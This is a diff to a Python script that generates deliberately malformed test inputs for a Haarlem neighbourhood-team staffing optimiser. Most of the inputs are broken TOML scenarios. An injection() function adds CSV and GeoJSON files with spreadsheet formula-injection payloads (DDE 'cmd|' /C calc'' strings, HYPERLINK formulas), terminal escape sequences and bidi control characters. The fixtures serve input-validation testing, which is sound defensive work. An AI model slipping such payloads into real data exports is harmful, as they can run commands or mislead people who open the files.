@@ -105,45 +105,277 @@ def main() -> None:
         crs=28992,
     )
     far.to_file(BAD / "buiten_nederland.gpkg")
-    (BAD / "themas_nan.toml").write_text('[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = nan }\n')
-    (BAD / "themas_negatief.toml").write_text(
-        '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = -1.0 }\n'
-    )
     scenarios()
+    injection()
+
+
+#: A minimal valid scenario for the Haarlem data: most broken scenarios are one edit of it, so
+#: they do not go stale when the embedded default changes (``test_bad_corpus`` checks that the
+#: committed files equal what this script makes).
+MINIMAL = """naam = "Corpus: minimaal scenario"
+budget = 5_920_000
+max_wijziging = 0.5
+
+[teamgrootte]
+min_personen = 4
+max_personen = 14
+
+[milp]
+max_seconden = 10.0
+
+[financier.Zvw]
+budget = 400_000
+
+[discipline.maatschappelijk_werk]
+naam = "Maatschappelijk werk"
+kosten_per_uur = 3418.80
+huidig = 46.8
+min_uren = 16.0
+max_uren = 80.0
+behoefte = { psychosociaal = 1.0, financieel = 0.5 }
+
+[discipline.werk_inkomen]
+naam = "Werk en inkomen"
+organisatie = "Gemeente"
+kosten_per_uur = 2333.33
+huidig = 24.0
+min_uren = 8.0
+max_uren = 48.0
+verplicht = true
+behoefte = { financieel = 1.0 }
+
+[discipline.opbouwwerk]
+naam = "Opbouwwerk"
+kosten_per_uur = 2222.22
+huidig = 18.0
+min_uren = 8.0
+max_uren = 36.0
+behoefte = { samenhang = 1.0 }
+
+[discipline.wijkverpleging]
+naam = "Wijkverpleging"
+kosten_per_uur = 2222.22
+gefinancierd_door = "Zvw"
+huidig = 18.0
+min_uren = 8.0
+max_uren = 36.0
+behoefte = { zorg = 1.0 }
+
+[discipline.informatie_advies]
+naam = "Informatie & advies"
+kosten_per_uur = 2333.33
+huidig = 24.0
+min_uren = 8.0
+max_uren = 48.0
+behoefte = { toegang = 1.0 }
+
+[[fase]]
+jaar = 2017
+budget = 5_920_000
+"""
+
+MW = 'naam = "Maatschappelijk werk"'
+WI = "verplicht = true"
+FASE = "[[fase]]\njaar = 2017\nbudget = 5_920_000\n"
+DEEP = 3000
+
+#: name -> (old, new) edits of MINIMAL (first occurrence), or the whole text (str).
+SCENARIO_EDITS: dict[str, tuple[str, str] | str] = {
+    "scenario_negatief_budget.toml": ("budget = 5_920_000", "budget = -100"),
+    "scenario_absurd_budget.toml": ("budget = 5_920_000", "budget = 5e13"),
+    "scenario_nan_gewicht.toml": (WI, WI + "\ngewicht = nan"),
+    "scenario_negatief_gewicht.toml": (
+        "behoefte = { samenhang = 1.0 }",
+        "behoefte = { samenhang = -2.0 }",
+    ),
+    "scenario_min_boven_max.toml": ("min_uren = 16.0", "min_uren = 96.0"),
+    "scenario_onbekende_discipline.toml": (
+        "[[fase]]",
+        "[vastgezet.Meerwijk]\nyoga = 12\n\n[[fase]]",
+    ),
+    "scenario_onbekend_thema.toml": (
+        "behoefte = { toegang = 1.0 }",
+        "behoefte = { astrologie = 1.0 }",
+    ),
+    "scenario_kapot.toml": ("[teamgrootte]", "[teamgrootte"),
+    "scenario_leeg.toml": "",
+    # TOML structure and types
+    "scenario_verplicht_tekst.toml": (WI, 'verplicht = "nee"'),
+    "scenario_verplicht_getal.toml": (WI, "verplicht = 1"),
+    "scenario_financier_hoofdletter.toml": (MW, MW + '\ngefinancierd_door = "Gemeente"'),
+    "scenario_financier_spaties.toml": (MW, MW + '\ngefinancierd_door = " GEMEENTE "'),
+    "scenario_financier_typfout.toml": (MW, MW + '\ngefinancierd_door = "gemeennte"'),
+    "scenario_financier_getal.toml": (MW, MW + "\ngefinancierd_door = 5"),
+    "scenario_naam_getal.toml": ('naam = "Corpus: minimaal scenario"', "naam = 5"),
+    "scenario_disciplinenaam_getal.toml": (MW, "naam = 5"),
+    "scenario_organisatie_lijst.toml": ('organisatie = "Gemeente"', 'organisatie = ["Gemeente"]'),
+    "scenario_disciplines_getal.toml": "naam = 'x'\nbudget = 1\ndiscipline = 5\n",
+    "scenario_behoefte_getal.toml": ("behoefte = { toegang = 1.0 }", "behoefte = 5"),
+    "scenario_behoefte_tekst.toml": (
+        "behoefte = { toegang = 1.0 }",
+        'behoefte = { toegang = "veel" }',
+    ),
+    "scenario_behoefte_boolean.toml": (
+        "behoefte = { toegang = 1.0 }",
+        "behoefte = { toegang = true }",
+    ),
+    "scenario_discipline_tekst.toml": "naam = 'x'\nbudget = 1\n[discipline]\nwmo = 'x'\n",
+    "scenario_diep_lijsten.toml": "naam = 'x'\nbudget = " + "[" * DEEP + "]" * DEEP + "\n",
+    "scenario_diep_tabellen.toml": "naam = 'x'\nbudget = "
+    + "{a = " * DEEP
+    + "1"
+    + "}" * DEEP
+    + "\n",
+    "scenario_diep_koppen.toml": ("[[fase]]", "[discipline.x.behoefte.a.b.c]\nq = 1\n\n[[fase]]"),
+    "scenario_fase_jaar_tekst.toml": ("jaar = 2017", 'jaar = "2017"'),
+    "scenario_fase_zonder_budget.toml": (FASE, "[[fase]]\njaar = 2017\n"),
+    "scenario_teamgrootte_typfout.toml": ("min_personen = 4", "min_persoonen = 4"),
+    "scenario_milp_typfout.toml": ("max_seconden = 10.0", "max_secondes = 10.0"),
+    "scenario_onbekende_sleutel.toml": ("max_wijziging = 0.5", "max_wijziging = 0.5\nbudgett = 3"),
+    "scenario_stuurtekens.toml": (MW, 'naam = "Maatschappelijk\\u000bwerk\\u001b[2J"'),
+    "scenario_formule_namen.toml": (MW, 'naam = "=HYPERLINK(\\"https://x.nl\\",\\"mw\\")"'),
+    # numeric ranges
+    "scenario_gewicht_enorm.toml": (WI, WI + "\ngewicht = 1.7e308"),
+    "scenario_behoeftegewicht_enorm.toml": (
+        "behoefte = { samenhang = 1.0 }",
+        "behoefte = { samenhang = 1.7e308 }",
+    ),
+    "scenario_kosten_inf.toml": ("kosten_per_uur = 2222.22", "kosten_per_uur = inf"),
+    "scenario_huidig_negatief.toml": ("huidig = 24.0", "huidig = -4.0"),
+    "scenario_max_uren_enorm.toml": ("max_uren = 48.0", "max_uren = 1e9"),
+    "scenario_uren_per_fte_nul.toml": (
+        "max_wijziging = 0.5",
+        "max_wijziging = 0.5\nuren_per_fte = 0",
+    ),
+    "scenario_basis_aandeel_groot.toml": (
+        "max_wijziging = 0.5",
+        "max_wijziging = 0.5\nbasis_aandeel = 1.5",
+    ),
+    "scenario_complexiteit_negatief.toml": (
+        "max_wijziging = 0.5",
+        "max_wijziging = 0.5\ncomplexiteit = -1",
+    ),
+    "scenario_max_wijziging_nan.toml": ("max_wijziging = 0.5", "max_wijziging = nan"),
+    "scenario_teamgrootte_breuk.toml": ("min_personen = 4", "min_personen = 2.5"),
+    "scenario_max_seconden_enorm.toml": ("max_seconden = 10.0", "max_seconden = 1e9"),
+    "scenario_financier_negatief.toml": ("budget = 400_000", "budget = -1"),
+    "scenario_fase_budget_absurd.toml": (FASE, "[[fase]]\njaar = 2017\nbudget = 5e13\n"),
+    "scenario_budget_tekst.toml": ("budget = 5_920_000", 'budget = "veel"'),
+    "scenario_budget_boolean.toml": ("budget = 5_920_000", "budget = true"),
+    "scenario_escape_sleutel.toml": (
+        "max_wijziging = 0.5",
+        'max_wijziging = 0.5\n"a\\u001b[2Jb" = 1',
+    ),
+}
+
+
+def scenario_texts() -> dict[str, str]:
+    """Every broken scenario file, name -> text (the committed files must equal these)."""
+    out: dict[str, str] = {}
+    for name, edit in SCENARIO_EDITS.items():
+        if isinstance(edit, str):
+            out[name] = edit
+            continue
+        old, new = edit
+        assert old in MINIMAL, (name, old)
+        out[name] = MINIMAL.replace(old, new, 1)
+    size = "[teamgrootte]\nmin_personen = 4\nmax_personen = 14\n"
+    milp = "[milp]\nmax_seconden = 10.0\n"
+    funder = "[financier.Zvw]\nbudget = 400_000\n"
+    for part in (FASE, size, milp, funder):
+        assert part in MINIMAL, part
+    out |= {  # a key that is not a table must come before the first table
+        "scenario_fase_getal.toml": "fase = 5\n" + MINIMAL.replace(FASE, ""),
+        "scenario_teamgrootte_getal.toml": "teamgrootte = 5\n" + MINIMAL.replace(size, ""),
+        "scenario_milp_tekst.toml": 'milp = "snel"\n' + MINIMAL.replace(milp, ""),
+        "scenario_financier_getal_tabel.toml": "financier = 5\n" + MINIMAL.replace(funder, ""),
+        "scenario_financier_budget_getal.toml": MINIMAL.replace(funder, "[financier]\nZvw = 5\n"),
+        "scenario_huidig_getal.toml": "huidig = 5\n" + MINIMAL,
+        "scenario_huidig_team_getal.toml": MINIMAL + "\n[huidig]\nMeerwijk = 5\n",
+        "scenario_vastgezet_lijst.toml": MINIMAL + "\n[[vastgezet]]\nx = 1\n",
+        "scenario_teamnaam_lang.toml": MINIMAL + f"\n[huidig.{'T' * 250}]\nopbouwwerk = 18.0\n",
+    }
+    many = "".join(
+        f"[discipline.d{i}]\nkosten_per_uur = 1.0\nhuidig = 1.0\nmin_uren = 0.0\n"
+        f"max_uren = 8.0\nbehoefte = {{ zorg = 1.0 }}\n\n"
+        for i in range(101)
+    )
+    out["scenario_te_veel_disciplines.toml"] = "naam = 'x'\nbudget = 1000\n\n" + many
+    default = (ROOT / "data" / "scenarios" / "haarlem_default.toml").read_text(encoding="utf-8")
+    # the infeasible case is a documented number of the default (minimal staffing of Haarlem)
+    assert "budget = 5_920_000" in default
+    out["scenario_onhaalbaar.toml"] = default.replace("budget = 5_920_000", "budget = 2_000_000", 1)
+    return out
+
+
+#: Theme files: name -> text.
+THEME_TEXTS: dict[str, str] = {
+    "themas_nan.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = nan }\n',
+    "themas_negatief.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = -1.0 }\n',
+    "themas_gewicht_enorm.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = 1.7e308 }\n',
+    "themas_gewicht_tekst.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = "veel" }\n',
+    "themas_gewicht_boolean.toml": '[thema.x]\nnaam = "X"\nindicatoren = { eenzaam = true }\n',
+    "themas_thema_getal.toml": "[thema]\nx = 5\n",
+    "themas_naam_getal.toml": "[thema.x]\nnaam = 5\nindicatoren = { eenzaam = 1.0 }\n",
+    "themas_disciplines_getal.toml": (
+        '[thema.x]\nnaam = "X"\ndisciplines = 5\nindicatoren = { eenzaam = 1.0 }\n'
+    ),
+    "themas_indicatoren_getal.toml": '[thema.x]\nnaam = "X"\nindicatoren = 5\n',
+    "themas_diep.toml": "[thema.x]\nnaam = " + "[" * DEEP + "]" * DEEP + "\n",
+    "themas_onbekende_sleutel.toml": (
+        '[thema.x]\nnaam = "X"\ngewicht = 2\nindicatoren = { eenzaam = 1.0 }\n'
+    ),
+    "themas_te_veel.toml": "".join(
+        f'[thema.t{i}]\nnaam = "T{i}"\nindicatoren = {{ eenzaam = 1.0 }}\n\n' for i in range(9)
+    ),
+    "themas_lege_sectie.toml": "thema = []\n",
+}
 
 
 def scenarios() -> None:
-    """Write the broken scenario files, each a small edit of the Haarlem default."""
-    default = (BAD.parents[2] / "data" / "scenarios" / "haarlem_default.toml").read_text(
-        encoding="utf-8"
+    """Write the scenario and theme files of the corpus."""
+    for name, text in scenario_texts().items():
+        (BAD / name).write_text(text, encoding="utf-8")
+    for name, text in THEME_TEXTS.items():
+        (BAD / name).write_text(text, encoding="utf-8")
+    (BAD / "scenario_cp1252.toml").write_bytes(
+        MINIMAL.replace("Corpus: minimaal", "Café Überweg").encode("cp1252")
     )
-    edits = {
-        "scenario_negatief_budget.toml": ("budget = 5_920_000", "budget = -100"),
-        "scenario_absurd_budget.toml": ("budget = 5_920_000", "budget = 5e13"),
-        "scenario_nan_gewicht.toml": (
-            "behoefte = { financieel = 1.0 }",
-            "gewicht = nan\nbehoefte = { financieel = 1.0 }",
-        ),
-        "scenario_negatief_gewicht.toml": (
-            "behoefte = { samenhang = 1.0 }",
-            "behoefte = { samenhang = -2.0 }",
-        ),
-        "scenario_min_boven_max.toml": ("min_uren = 16.0", "min_uren = 96.0"),
-        "scenario_onbekende_discipline.toml": (
-            "[[fase]]",
-            "[vastgezet.Meerwijk]\nyoga = 12\n\n[[fase]]",
-        ),
-        "scenario_onbekend_thema.toml": (
-            "behoefte = { toegang = 1.0 }",
-            "behoefte = { astrologie = 1.0 }",
-        ),
-        "scenario_onhaalbaar.toml": ("budget = 5_920_000", "budget = 2_000_000"),
-        "scenario_kapot.toml": ("[teamgrootte]", "[teamgrootte"),
-    }
-    for name, (old, new) in edits.items():
-        assert old in default, (name, old)
-        (BAD / name).write_text(default.replace(old, new, 1), encoding="utf-8")
-    (BAD / "scenario_leeg.toml").write_text("", encoding="utf-8")
+    (BAD / "themas_cp1252.toml").write_bytes(
+        '[thema.x]\nnaam = "Financiële problemen"\nindicatoren = { eenzaam = 1.0 }\n'.encode(
+            "cp1252"
+        )
+    )
+
+
+def injection() -> None:
+    """Team and buurt names that are formulas, control characters or terminal escapes."""
+    codes = list(_buurten()["buurtcode"])
+    haarlem = pd.read_csv(HAARLEM / "werkgebieden_indicatief.csv", dtype=str)
+    teams = sorted(haarlem["team"].unique())
+    formulas = [
+        '=HYPERLINK("https://example.org/?"&A2,"Noord")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+31 6 12345678",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        " =1+1",
+    ]
+    rename = {t: (formulas[i] if i < len(formulas) else t) for i, t in enumerate(teams)}
+    haarlem.assign(team=haarlem["team"].map(rename)).to_csv(BAD / "teams_formules.csv", index=False)
+    controls = ["Noord\x0bOost", "Zuid\x1b[2J\x1b[31mrood", "West\x07bel", "Oost\u202egnirts"]
+    rename = {t: (controls[i] if i < len(controls) else t) for i, t in enumerate(teams)}
+    haarlem.assign(team=haarlem["team"].map(rename)).to_csv(
+        BAD / "teams_stuurtekens.csv", index=False
+    )
+    b = _buurten()
+    b.loc[b.index[0], "buurtnaam"] = '=HYPERLINK("https://example.org","klik")'
+    b.loc[b.index[1], "buurtnaam"] = "@SUM(A1:A9)"
+    b.loc[b.index[2], "buurtnaam"] = "Buurt\x0b\x1b[2Jmet stuurtekens"
+    b.to_file(BAD / "buurten_formules.geojson", driver="GeoJSON")
+    pd.DataFrame({"buurtcode": codes, "team": ["=1+1"] * 3 + ["Team\x1b]0;titel\x07"] * 3}).to_csv(
+        BAD / "teams_formules_klein.csv", index=False
+    )
 
 
 if __name__ == "__main__":
